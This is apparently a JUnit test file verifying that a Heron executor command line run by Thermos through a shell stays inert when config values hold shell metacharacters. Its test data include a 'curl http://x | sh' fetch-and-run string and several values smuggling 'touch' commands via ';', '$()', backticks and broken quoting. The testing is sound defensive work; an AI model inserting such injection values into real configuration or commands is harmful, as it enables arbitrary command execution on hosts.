package io.heroncp.aurora;

import static org.assertj.core.api.Assertions.assertThat;

import io.heroncp.heron.ExecutorConfigRules;
import io.heroncp.topology.JobRequest;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The heron-executor command line Thermos runs in a shell stays inert whatever a config value
 * holds: run through a real {@code sh} (with {@code printf} in place of the executor), every flag
 * comes out as one literal word and the injected commands never run.
 */
class ExecutorCommandIsInertTest {

  private static final String HOSTILE = "disabled; curl http://x | sh #";

  @TempDir Path sandbox;

  @Test
  void shellMetacharactersInAnOverrideAreRefusedByTheExecutorRules() {
    assertThat(ExecutorConfigRules.violation("heron.topology.healthmgr.mode", HOSTILE))
        .hasValueSatisfying(why -> assertThat(why).contains("cluster", "disabled"));
    assertThat(
            ExecutorConfigRules.violation("topology.additional.classpath", "lib/*:$(touch pwned)"))
        .isPresent();
    assertThat(ExecutorConfigRules.violation("heron.topology.healthmgr.mode", "cluster")).isEmpty();
    assertThat(ExecutorConfigRules.violation("any.key", "line\nbreak")).isPresent();
  }

  @Test
  void aRenderedCommandWithShellMetacharactersRunsNothingInAShell() throws Exception {
    // Values the submit checks would refuse, forced past them to prove the renderer's own guard.
    Map<String, String> config = new HashMap<>(AuroraFixtures.request("devel").config());
    config.put(
        "heron.topology.healthmgr.mode", HOSTILE.replace("curl http://x | sh", "touch pwned-1"));
    config.put("heron.topology.metricscachemgr.mode", "$(touch pwned-2)");
    config.put("heron.statefulstorage.classpath", "`touch pwned-3`");
    config.put(HeronExecutorCommand.JAVA_HOME_KEY, "/jvm' ; touch pwned-4 ; echo '");
    JobRequest base = AuroraFixtures.request("devel");
    JobRequest request =
        new JobRequest(
            base.key(),
            base.submitUser(),
            base.topology(),
            base.packing(),
            base.topologyPackageUri(),
            base.topologyBinaryFile(),
            config);

    String command = HeronExecutorCommand.commandLine(request, "zk1:2181", "/heron");
    List<String> words = runWithPrintf(command);

    assertThat(sandbox.toFile().list()).as("nothing the values held ran").isEmpty();
    assertThat(words)
        .contains(
            "--health-manager-mode=disabled; touch pwned-1 #",
            "--metricscache-manager-mode=$(touch pwned-2)",
            "--heron-java-home=/jvm' ; touch pwned-4 ; echo '")
        .anySatisfy(word -> assertThat(word).endsWith("`touch pwned-3`"));
  }

  @Test
  void heronsOwnFlagsAreRenderedExactlyAsHeronWritesThem() {
    String command =
        HeronExecutorCommand.commandLine(AuroraFixtures.request("devel"), "zk1:2181", "/heron");
    assertThat(command)
        .doesNotContain("'")
        .contains("--heron-java-home=/usr/lib/jvm/java-11-openjdk-amd64")
        .contains("--metrics-manager-classpath=./heron-core/lib/metricsmgr/*");
  }

  /** Runs the command with {@code printf '%s\n'} as the executor; one line per shell word. */
  private List<String> runWithPrintf(String command) throws IOException, InterruptedException {
    assertThat(command).startsWith(HeronExecutorCommand.EXECUTOR_BINARY + " ");
    String printed =
        "printf '%s\\n' " + command.substring(HeronExecutorCommand.EXECUTOR_BINARY.length() + 1);
    Process shell =
        new ProcessBuilder("sh", "-c", printed)
            .directory(sandbox.toFile())
            .redirectErrorStream(true)
            .start();
    byte[] output = shell.getInputStream().readAllBytes();
    assertThat(shell.waitFor(30, TimeUnit.SECONDS)).isTrue();
    assertThat(shell.exitValue()).isZero();
    return new String(output, StandardCharsets.UTF_8).lines().toList();
  }
}
